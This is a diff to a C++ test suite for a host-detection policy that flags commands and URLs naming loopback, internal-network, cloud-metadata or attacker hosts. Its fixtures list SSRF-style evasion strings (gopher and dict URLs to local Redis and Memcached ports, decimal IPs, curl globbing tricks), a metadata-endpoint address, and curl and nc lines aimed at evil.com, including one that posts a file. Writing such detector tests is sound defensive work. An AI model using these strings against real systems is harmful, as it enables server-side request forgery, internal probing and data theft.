@@ -147,6 +147,29 @@ const std::vector<std::string>& of_this_machine() {
       "https://a.com/?url=http://0",
       "https://a.com/?url=127.0.0.1",
       "http://a.com#@127.0.0.1/",
+      "@127.0.0.1/x",
+      "@localhost/",
+      "@2130706433/",
+      "gopher:/127.0.0.1:6379/_x",
+      "dict:/127.0.0.1:11211",
+      "scp:///2130706433",
+      "http://12[7-7].0.0.1",
+      "http://[2-2]130706433",
+      "http://localhos[t-t]",
+      "http://127.0.0.{1}",
+      "http://{127.0.0.1}/",
+      "http://127.0.[0-300].1",
+      "curl 127.10",
+      "curl -s 127.10/x",
+      "curl -sS 127.10",
+      "curl 2130706434",
+      "curl \"https://a.com/?a=1&b; c\" 0",
+      "curl \\; 0",
+      "\"curl\" 0",
+      "/usr/bin/curl 0",
+      "bash -c 'sleep 1; curl 0'",
+      "nc 0 80",
+      "npx x root@127.0.0.1",
   };
   return kTexts;
 }
@@ -237,6 +260,33 @@ const std::vector<std::string>& of_evil() {
       "https://a.com/?https://evil.com",
       "https://a.com/#https://evil.com",
       "bob%evil.com@a.com",
+      "/\t/evil.com",
+      "/\n\\evil.com/x",
+      "https://a.com/?next=/%09/evil.com",
+      "https://a.com/?p={\"url\":\"https://evil.com\"}",
+      "https://a.com/?p=%7B%22url%22%3A%22https%3A%2F%2Fevil.com%22%7D",
+      "@evil.com/x",
+      "@evil.com/package@1.2.3",
+      "{\"a\": \"@evil.com/x\"}",
+      "curl -d @f @evil.com/x",
+      "^@evil.com/",
+      ">@evil.com/",
+      "a|@evil.com/",
+      "gopher:/evil.com:6379/_x",
+      "imap:/evil.com:143",
+      "ftps:/evil.com/x",
+      "sftp:/u@evil.com/x",
+      "smtp:/evil.com",
+      "scp:///evil.com/x",
+      "https://evil.co{m}",
+      "https://evi[l-l].com",
+      "https://evi[l-l].com:443/x",
+      "htt{p}://evil.com/[1-9]",
+      "{https://evil.com}",
+      "https://{evil.com/x,a.com}",
+      "https://a.com/,https://evi[l-l].com",
+      "curl -s evi[j-m].com/x",
+      "https://[1-99999]evil.com",
       "/v:evil.com",
       "/net/evil.com/x",
       "\\\\?\\UNC\\evil.com\\x",
@@ -336,15 +386,34 @@ TEST_SUITE("policy/host_dresses") {
 
   TEST_CASE("texts that name another host, or none, are let through") {
     const Dressed dressed;
-    for (const char* text :
-         {"https://a.com/?q=https://evil.com", "https://a.com/?u=https://evil.com",
-          "https://a.com/?text=evil.com", "https://a.com/?file=evil.com",
-          "https://a.com/x?version=evil.com", "mailto:a@ok.com?subject=evil.com",
-          "{\"a\": \"@evil.com/package\"}", "[\"x\", \"@evil.com/p\"]", "@evil.com/p",
-          "notevil.com", "--notevil.com", "https://a.com/?next=/evil.com/x",
-          "https://evil.com.a.com/", "it isn't evil.com that we mean, is it?", "/dev/tcp/a.com/80",
-          "see /srv/evil.com:", "https://a.com/x,y", "https://a.com/dns4/evil.com",
-          "https://a.com/maps/@1.2,3.4,15z"}) {
+    for (const char* text : {"https://a.com/?q=https://evil.com",
+                             "https://a.com/?u=https://evil.com",
+                             "https://a.com/?text=evil.com",
+                             "https://a.com/?file=evil.com",
+                             "https://a.com/x?version=evil.com",
+                             "mailto:a@ok.com?subject=evil.com",
+                             "import x from \"@evil.com/p\"",
+                             "const x = require('@evil.com/p');",
+                             "npm i @evil.com/p",
+                             "@bob",
+                             "a@evil",
+                             "C:/evil.com/x",
+                             "file:/evil.com",
+                             "a:/evil.com/c",
+                             "https://a.com/{evil.com}",
+                             "https://a.com/[1-100000]",
+                             "https://a.com/users/{id}",
+                             "https?://[a-z0-9.-]+",
+                             "notevil.com",
+                             "--notevil.com",
+                             "https://a.com/?next=/evil.com/x",
+                             "https://evil.com.a.com/",
+                             "it isn't evil.com that we mean, is it?",
+                             "/dev/tcp/a.com/80",
+                             "see /srv/evil.com:",
+                             "https://a.com/x,y",
+                             "https://a.com/dns4/evil.com",
+                             "https://a.com/maps/@1.2,3.4,15z"}) {
       CHECK_MESSAGE(!dressed.catches(kEvil, text), std::string(text));
     }
     for (const char* text : {"0",
@@ -357,6 +426,22 @@ TEST_SUITE("policy/host_dresses") {
                              "curl -m 0 https://a.com",
                              "curl -m0 https://a.com",
                              "curl -d a=0 https://a.com",
+                             "curl https://a.com; exit 0",
+                             "curl -sf https://a.com && exit 0 || exit 1",
+                             "curl https://a.com || true; echo 0",
+                             "sleep 0; curl https://a.com",
+                             "for i in 0 1 2; do curl https://a.com/$i; done",
+                             "seq 0 3 | xargs -n1 curl https://a.com",
+                             "bash -c \"curl https://a.com; exit 0\"",
+                             "{\"command\": \"curl https://a.com && exit 0\"}",
+                             "curl https://a.com >x 2>&1; exit 0",
+                             "curl https://a.com\nexit 0",
+                             "curl -d '{\"n\": 0, \"list\": [0, 1, 0.5]}' https://a.com",
+                             "curl -d [0,1] https://a.com",
+                             "curl -H 'X: 0 retries' https://a.com",
+                             "curl https://a.com/{1..5000}",
+                             "curl https://a.com | grep -E '[0-9]{1,3}.[0-9]{1,3}.[0-9]{1,3}'",
+                             "grep -E 'http://[0-9]{1,3}.[0-9]{1,3}.[0-9]{1,3}' x",
                              "0x00",
                              "10",
                              "127",
@@ -391,6 +476,59 @@ TEST_SUITE("policy/host_dresses") {
     }
     CHECK(dressed.catches(kLoopback, "The service listens on 127.0.0.1:8080 by default, I think"));
     CHECK(dressed.catches(kLoopback, "127.0.0.1", "content"));
+  }
+
+  TEST_CASE("a version behind a package manager is no host, and a short address is an operand") {
+    const Dressed dressed;
+    constexpr const char* kInside = "ip in {10.0.0.0/8}";
+    for (const char* text : {"npm install eslint@10.0.0",
+                             "npm i eslint@10.1",
+                             "npx create-next-app@10.0.0",
+                             "pnpm add x@10.0.0",
+                             "cargo add x@10.0.0",
+                             "npm i @scope/name@10.0.0",
+                             "yarn add \"x@10.1\"",
+                             "cd x && sudo npm i -D a@10.0.0 b@10",
+                             "bash -lc 'npm i x@10.0.0'",
+                             "uvx ruff@10.1 check",
+                             "deno run npm:x@10.0.0",
+                             "curl https://a.com && npm i x@10.0.0",
+                             "echo 10.1",
+                             "curl -m 10.1 https://a.com",
+                             "curl https://a.com; sleep 10.1",
+                             "v10.1",
+                             "{\"version\": 10.1}",
+                             "{\"host\":\"a.com\",\"timeout\":10.5}",
+                             "--version=10.1",
+                             "host=a.com version=10.1",
+                             "{\"host\": 10}"}) {
+      for (const char* argument : {"key", "command"})
+        CHECK_MESSAGE(!dressed.catches(kInside, text, argument), std::string(text));
+    }
+    for (const char* text :
+         {"ssh root@10.0.0.5", "ssh root@10.0.5", "curl u@10.0.0.5",
+          "scp x u@10.0.0.5:", "npx ssh root@10.0.5", "npm i git@10.0.0.5:x", "foo npm root@10.0.5",
+          "nc 10.1 80", "curl 10.0.1", "curl -v 10.0.1", "ping -c 1 10.1", "{\"host\":\"10.1\"}",
+          "{\"host\": 10.1}", "{\"server_address\":167772161}", "host=10.1", "--host 10.1",
+          "--ip=10.1", "tftp:/10.0.0.1/x"}) {
+      for (const char* argument : {"key", "command"}) {
+        CHECK_MESSAGE(dressed.catches(kInside, text, argument), std::string(text));
+        CHECK_MESSAGE(dressed.catches_named(kInside, text, argument), std::string(text));
+      }
+    }
+    for (const char* text :
+         {"echo x # don't\ncurl 'https://a.com' 10.1", "echo '\\'; curl 'x' 10.1 'y'",
+          "echo $'\\''; curl 'x; y' 10.1 'y'", "cat <<E\ndon't\nE\ncurl 'x' 10.1 'y'",
+          "npm i x@10.0.0 && ssh root@10.0.5", "npx a@10.0.0 && curl u@10.0.5"})
+      CHECK_MESSAGE(dressed.catches(kInside, text, "command"), std::string(text));
+    for (const char* text : {"@169.254.169.254/latest", "tftp:/169.254.169.254/x",
+                             "http://169.254.169.[254-254]/latest"}) {
+      CHECK_MESSAGE(dressed.catches(kMetadata, text), std::string(text));
+      CHECK_MESSAGE(dressed.catches_named(kMetadata, text), std::string(text));
+    }
+    for (const char* text : {"npm i @types/node", "curl -d @file.json https://a.com",
+                             "@scope/package", "import x from '@foo.bar/baz'", "@bob"})
+      CHECK_MESSAGE(!dressed.catches("host {foo.bar, types, scope}", text), std::string(text));
   }
 
   TEST_CASE("an empty text names no host") {
